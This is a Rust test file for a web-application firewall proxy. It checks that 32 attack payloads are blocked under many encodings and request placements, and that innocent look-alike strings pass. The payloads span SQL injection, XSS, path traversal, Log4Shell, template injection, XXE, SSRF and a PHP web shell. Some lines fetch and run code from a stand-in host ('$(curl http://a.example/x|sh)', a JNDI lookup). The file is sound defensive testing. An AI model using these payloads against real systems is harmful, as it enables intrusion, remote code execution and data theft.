//! That an attack is found in whatever it is wrapped, and that what looks like it passes in the same wrapping.
//!
//! Each wrapping is one that some application undoes: what is found without it has to be found within it.

use std::fmt::Write as _;
use std::sync::Arc;
use std::time::Instant;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use portcullis::clients::Clients;
use portcullis::engine::{Outcome, Policy, Registry};

use crate::judge::{Request, policy};
use crate::support::{Proxy, Upstream};

/// Attacks of every class, and beside each what looks like it and is none.
const PAIRS: [(&str, &str); 32] = [
    ("' or 17=17 -- ", "the 17 or 18 of May"),
    (
        "1 union all select null,version()",
        "a union of all the selected",
    ),
    ("1;drop table users--", "drop the table; then users"),
    (
        "(select password from users limit 1)",
        "(select a user from the list)",
    ),
    ("admin'--", "the admins' meeting"),
    ("1' and sleep(5)#", "1 and sleep for 5 hours"),
    ("<script>alert(1)</script>", "a script about an alert"),
    ("<img src=x onerror=alert(1)>", "an img, one error"),
    (
        "\" autofocus onfocus=import('//a.example') x=\"",
        "\"focus\" on what is imported",
    ),
    (
        "javascript:alert(document.domain)",
        "JavaScript: a domain of its own",
    ),
    ("';fetch('//a.example');//", "'fetch' is a verb; so what"),
    ("../../../../etc/passwd", "either/or and etc"),
    ("..\\..\\windows\\win.ini", "windows and doors"),
    ("/proc/self/environ", "a process of the self"),
    (
        "php://filter/convert.base64-encode/resource=index",
        "a filter in PHP",
    ),
    (";cat /etc/passwd", "the cat sat; it passed"),
    ("$(curl http://a.example/x|sh)", "curl up with a book"),
    ("| whoami", "whoever it is"),
    ("`id`", "an id"),
    ("${jndi:ldap://a.example/x}", "a directory (LDAP)"),
    ("{{7*7}}", "7*7 is 49"),
    (
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "a class and its subclasses",
    ),
    (
        "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
        "assign x and execute",
    ),
    ("<?php system($_GET['c']); ?>", "a system of PHP"),
    ("<!--#exec cmd=\"id\" -->", "exec is a command"),
    ("*)(uid=*))(|(uid=*", "a uid (any)"),
    ("' or count(/*)=1 or 'a'='b", "count to one or two"),
    (
        "http://169.254.169.254/latest/meta-data/",
        "the latest of the metadata",
    ),
    ("O:8:\"Evil\":1:{s:1:\"a\";s:2:\"id\";}", "O: 8, s: 1"),
    (
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
        "a document of some type",
    ),
    ("gopher://127.0.0.1:6379/_info", "a gopher in a hole"),
    ("a\r\nBcc: victim@a.example", "a copy for the victim"),
];

/// A wrapping.
type Wrap = fn(&str) -> String;

fn escaped(text: &str, escape: impl Fn(u8) -> String) -> String {
    text.bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(byte).into(),
            _ => escape(byte),
        })
        .collect()
}

const WRAPS: [(&str, Wrap); 11] = [
    ("nothing", str::to_owned),
    ("percent", |text| {
        escaped(text, |byte| format!("%{byte:02X}"))
    }),
    ("percent twice", |text| {
        escaped(text, |byte| format!("%25{byte:02x}"))
    }),
    ("every letter in percent", |text| {
        text.bytes().fold(String::new(), |mut all, byte| {
            let _ = write!(all, "%{byte:02x}");
            all
        })
    }),
    ("%u", |text| escaped(text, |byte| format!("%u{byte:04x}"))),
    ("entities", |text| {
        escaped(text, |byte| format!("&#{byte};"))
    }),
    ("entities in hexadecimal", |text| {
        escaped(text, |byte| format!("&#x{byte:x};"))
    }),
    ("escapes of JavaScript", |text| {
        escaped(text, |byte| format!("\\x{byte:02x}"))
    }),
    ("escapes of JSON", |text| {
        escaped(text, |byte| format!("\\u{byte:04x}"))
    }),
    ("base64", |text| STANDARD.encode(text)),
    ("base64, scattered", |text| {
        let letters: Vec<char> = STANDARD.encode(text).chars().collect();
        let pieces: Vec<String> = letters
            .chunks(5)
            .map(|piece| piece.iter().collect())
            .collect();
        pieces.join("!")
    }),
];

/// Puts a value where it belongs.
type Put = fn(&str) -> Request;

/// Where a value is put.
const PLACES: [(&str, Put); 4] = [
    ("query", |value| {
        let value = escaped(value, |byte| format!("%{byte:02X}"));
        Request::get(&format!("/s?q={value}&page=2"))
    }),
    ("form", |value| {
        let value = escaped(value, |byte| format!("%{byte:02X}"));
        Request::get("/s").body(
            "application/x-www-form-urlencoded",
            format!("a=b&q={value}"),
        )
    }),
    ("json", |value| {
        let body = serde_json::json!({ "a": [1, { "q": value }] });
        Request::get("/s").body("application/json", body.to_string())
    }),
    ("cookie", |value| {
        let value = escaped(value, |byte| format!("%{byte:02X}"));
        Request::get("/s").header("cookie", format!("lang=en; q={value}"))
    }),
];

fn outcome(policy: &Arc<Policy>, request: &Request) -> Outcome {
    request
        .judged(policy, &Clients::scratch(), Instant::now())
        .outcome()
}

#[test]
fn what_is_found_is_found_in_every_wrapping_and_what_is_not_passes_in_it() {
    let policy = policy("", &Registry::default());
    let mut wrong = Vec::new();
    for (attack, innocent) in PAIRS {
        for (how, wrap) in WRAPS {
            // What is shorter hides next to nothing, and is not looked at: see the README.
            if how.starts_with("base64") && attack.len() < 12 {
                continue;
            }
            for (place, put) in PLACES {
                if outcome(&policy, &put(&wrap(attack))) != Outcome::Block {
                    wrong.push(format!("passes: {attack:?} in {how} in {place}"));
                }
                if outcome(&policy, &put(&wrap(innocent))) != Outcome::Pass {
                    wrong.push(format!("refused: {innocent:?} in {how} in {place}"));
                }
            }
        }
    }
    assert!(
        wrong.is_empty(),
        "{} are wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

#[test]
fn a_live_proxy_refuses_and_forwards_what_is_judged_so_offline() {
    let rules = "detections: [malicious_payload: {}]";
    let policy = policy(rules, &Registry::default());
    let upstream = Upstream::plain();
    let proxy = Proxy::start(&upstream, rules);
    let (mut forwarded, mut refused) = (0, 0);
    for (attack, innocent) in PAIRS {
        // Some of the wrappings; offline they are all tried.
        for (how, wrap) in WRAPS.iter().step_by(4) {
            for (place, put) in PLACES {
                for text in [attack, innocent] {
                    let request = put(&wrap(text));
                    let headers: Vec<_> = request
                        .headers
                        .iter()
                        .map(|(name, value)| (*name, std::str::from_utf8(value).expect("ASCII")))
                        .collect();
                    let body = request.body.as_deref().unwrap_or_default();
                    let method = request.method.as_str();
                    let answer = proxy.request(method, &request.target, &headers, body);
                    let status = match outcome(&policy, &request) {
                        Outcome::Block => 403,
                        _ => 200,
                    };
                    assert_eq!(answer.status, status, "{text:?} in {how} in {place}");
                    forwarded += usize::from(status == 200);
                    refused += usize::from(status == 403);
                }
            }
        }
    }
    assert!(forwarded > 300 && refused > 300, "{forwarded}, {refused}");
    assert_eq!(upstream.count(), forwarded);
}
